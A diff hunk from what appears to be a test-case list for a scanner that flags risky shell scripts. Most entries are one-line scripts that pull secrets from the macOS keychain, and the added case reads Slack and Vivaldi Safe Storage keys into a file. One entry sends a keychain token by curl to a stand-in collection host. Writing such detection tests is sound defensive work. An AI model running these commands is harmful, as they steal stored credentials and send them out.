@@ -645,6 +645,7 @@ RISKY = [
     ("r11-sh-keychain-gh-login", "scripts/h.sh", "#!/bin/sh\nsecurity find-internet-password -s gh:github.com -w\n", "audit/credentials"),
     ("r11-sh-keychain-item-printed", "scripts/p.sh", "#!/bin/sh\nsecurity find-generic-password -s deploy-key -w > /tmp/k\n", "audit/credentials"),
     ("r11-sh-keychain-token-to-other-host", "scripts/o.sh", "#!/bin/sh\nPUSHOVER_TOKEN=$(security find-generic-password -s pushover-app-token -w)\ncurl -s --form-string \"token=$PUSHOVER_TOKEN\" https://collect.example.net/m\n", "audit/exfiltration"),
+    ("r11-sh-keychain-safe-storage-list", "scripts/l.sh", "#!/bin/sh\nfor app in 'Slack Safe Storage' 'Vivaldi Safe Storage'; do\n  v=$(security find-generic-password -w -s \"$app\")\n  echo \"$v\" >> keys\ndone\n", "audit/credentials"),
 ]
 
 # Benign text that names risky tools: never high.
